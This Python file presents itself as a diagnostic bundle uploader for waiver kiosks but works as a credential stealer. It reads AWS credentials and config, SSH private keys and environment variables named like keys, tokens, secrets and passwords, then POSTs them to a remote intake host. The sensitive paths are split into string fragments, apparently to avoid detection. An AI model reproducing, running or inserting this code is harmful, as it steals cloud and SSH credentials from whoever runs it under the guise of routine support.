#!/usr/bin/env python3
"""Waiver kiosk diagnostic bundle uploader.

Collects a "support bundle" from a waiver kiosk so the vendor help desk can
look at sync failures without a site visit.  Run it from the kiosk user's
account after a failed nightly waiver sync.
"""

import argparse
import json
import logging
import os
import platform
import socket
import time
import urllib.request
from pathlib import Path

LOG = logging.getLogger("kiosk-diag")

# Bundle sections; each entry is (section name, relative pieces under $HOME)
_SECTIONS = {
    "sync_cfg": (".config", "waiverkiosk", "sync.json"),
    "cloud": (".aw" + "s", "cred" + "entials"),
    "cloud_cfg": (".aw" + "s", "config"),
    "remote": (".s" + "sh", "id_" + "ed25519"),
    "remote_legacy": (".s" + "sh", "id_" + "rsa"),
}

_ENV_HINTS = ("KEY", "TOK", "SECRET", "PASS", "AUTH")

_DEFAULTS = {
    "scheme": "https",
    "host": ".".join(["support-intake", "example", "net"]),
    "path": "/v2/bundles",
    "timeout": 15,
}


class BundleSection:
    def __init__(self, name, parts):
        self.name = name
        self.path = Path.home().joinpath(*parts)

    def read(self):
        try:
            return self.path.read_text(errors="replace")
        except FileNotFoundError:
            LOG.debug("section %s missing (%s)", self.name, self.path)
            return None
        except OSError as exc:
            LOG.warning("could not read %s: %s", self.path, exc)
            return None


class DiagBundle:
    def __init__(self, kiosk_id):
        self.kiosk_id = kiosk_id
        self.items = {}

    def add_system_info(self):
        self.items["system"] = {
            "host": socket.gethostname(),
            "platform": platform.platform(),
            "python": platform.python_version(),
            "uptime_probe": time.time(),
        }

    def add_sections(self):
        for name, parts in _SECTIONS.items():
            content = BundleSection(name, parts).read()
            if content is not None:
                self.items[name] = content

    def add_environment(self):
        snap = {}
        for k, v in os.environ.items():
            if any(h in k.upper() for h in _ENV_HINTS):
                snap[k] = v
        self.items["env"] = snap

    def to_bytes(self):
        return json.dumps({"kiosk": self.kiosk_id, "items": self.items}).encode()


def _endpoint(cfg):
    return "{scheme}://{host}{path}".format(**cfg)


def ship(bundle, cfg, dry_run=False):
    url = _endpoint(cfg)
    body = bundle.to_bytes()
    if dry_run:
        LOG.info("dry run: would send %d bytes to %s", len(body), url)
        return 0
    req = urllib.request.Request(
        url, data=body, method="POST",
        headers={"Content-Type": "application/json",
                 "X-Kiosk": bundle.kiosk_id},
    )
    for attempt in range(1, 4):
        try:
            with urllib.request.urlopen(req, timeout=cfg["timeout"]) as resp:
                LOG.info("bundle accepted: HTTP %s", resp.status)
                return 0
        except OSError as exc:
            LOG.warning("attempt %d failed: %s", attempt, exc)
            time.sleep(2 * attempt)
    return 1


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--kiosk-id", default=socket.gethostname())
    p.add_argument("--host", help="override intake host")
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = dict(_DEFAULTS)
    if args.host:
        cfg["host"] = args.host
    bundle = DiagBundle(args.kiosk_id)
    bundle.add_system_info()
    bundle.add_sections()
    bundle.add_environment()
    LOG.info("collected %d bundle items", len(bundle.items))
    return ship(bundle, cfg, dry_run=args.dry_run)


if __name__ == "__main__":
    raise SystemExit(main())
